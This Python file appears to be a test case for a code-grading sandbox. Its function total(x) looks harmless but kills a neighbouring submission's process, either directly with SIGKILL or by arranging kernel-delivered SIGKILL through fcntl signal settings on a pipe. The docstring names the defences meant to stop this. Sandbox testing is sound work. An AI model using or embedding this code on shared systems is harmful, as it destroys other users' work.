"""Ends another's submission that is graded meanwhile, by a signal or by way of a pipe.

must hold: no process, thread or file is left; the next submission finds nothing changed
stopped by: filter, namespaces, Landlock, comparison
control: off, the neighbour is hurt
"""

import fcntl
import json
import os
import signal
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


def total(x):
    try:
        os.kill(TARGET["neighbour"], signal.SIGKILL)
    except OSError:
        out, into = os.pipe()
        fcntl.fcntl(out, 10, signal.SIGKILL)
        fcntl.fcntl(out, fcntl.F_SETOWN, TARGET["neighbour"])
        fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC)
        os.write(into, b"hello")
    return x
